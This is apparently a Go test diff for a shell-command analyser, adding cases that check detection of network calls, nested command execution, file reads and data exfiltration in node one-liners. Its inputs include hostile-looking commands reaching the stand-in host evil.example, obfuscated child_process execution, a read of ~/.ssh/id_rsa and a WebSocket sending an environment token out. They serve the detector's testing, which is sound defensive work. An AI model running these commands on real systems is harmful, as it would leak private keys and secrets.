@@ -77,3 +77,42 @@ func TestDenoBun(t *testing.T) {
 	hasNested(t, `bun -e "Bun.spawn(['sh', '-c', 'id'])"`, "id")
 	noHost(t, `deno run app.ts`, "evil.example")
 }
+
+// TestNodeBindings checks node's module bindings: destructured and
+// renamed requires, ES and dynamic imports, functions and objects bound to
+// variables, URL objects, XMLHttpRequest and WebSocket.
+func TestNodeBindings(t *testing.T) {
+	for _, src := range []string{
+		`node -e "const {get} = require('https'); get('https://evil.example/x')"`,
+		`node -e "const {request: r} = require('http'); r('http://evil.example/x').end()"`,
+		`node -e "const { get, request } = require('node:https'); request({host: 'evil.example'})"`,
+		`node -e "import('https').then(m => m.get('https://evil.example/x'))"`,
+		`node -e "import('https').then(({get}) => get('https://evil.example/x'))"`,
+		`node -e "import('https').then(function (m) { m.get('https://evil.example/x') })"`,
+		`node -e "(await import('https')).get('https://evil.example/x')"`,
+		`node -e "const h = await import('https'); h.get('https://evil.example/x')"`,
+		`node --input-type=module -e "import https from 'https'; https.get('https://evil.example/x')"`,
+		`node --input-type=module -e "import * as h from 'https'; h.get('https://evil.example/x')"`,
+		`node --input-type=module -e "import {get as g} from 'node:https'; g('https://evil.example/x')"`,
+		`node -e "const h = require('ht' + 'tps'); h.get('https://evil.example/x')"`,
+		`node -e "const f = fetch; f('https://evil.example/x')"`,
+		`node -e "const g = require('https').get; g('https://evil.example/x')"`,
+		`node -e "globalThis.fetch('https://evil.example/x')"`,
+		`node -e "fetch(new URL('https://evil.example/x'))"`,
+		`node -e "const u = new URL('/x', 'https://evil.example'); fetch(u)"`,
+		`node -e "const x = new XMLHttpRequest(); x.open('GET', 'https://evil.example/x'); x.send()"`,
+		`node -e "const ws = new WebSocket('wss://evil.example/s')"`,
+		`node -e "const s = new (require('net').Socket)(); s.connect(4444, 'evil.example')"`,
+		`node -e "const net = require('net'); const s = new net.Socket(); s.connect(4444, 'evil.example')"`,
+	} {
+		hasHost(t, src, "evil.example")
+	}
+	hasNested(t, `node -e "const {execSync: run} = require('child_process'); run('id')"`, "id")
+	hasNested(t, `node -e "const cp = require('child' + '_process'); cp.execSync('id')"`, "id")
+	hasNested(t, `node -e "import('child_process').then(({execSync}) => execSync('id'))"`, "id")
+	hasFile(t, `node -e "const {homedir} = require('os'); require('fs').readFileSync(homedir() + '/.ssh/id_rsa')"`,
+		"~/.ssh/id_rsa", "read")
+	sentOut(t, `node -e "const ws = new WebSocket('wss://evil.example/s'); ws.send(process.env.TOKEN)"`, "TOKEN")
+	// A member of another module with a network name is not a request.
+	noHost(t, `node -e "const {get} = require('lodash'); get(obj, 'https://evil.example/x')"`, "evil.example")
+}
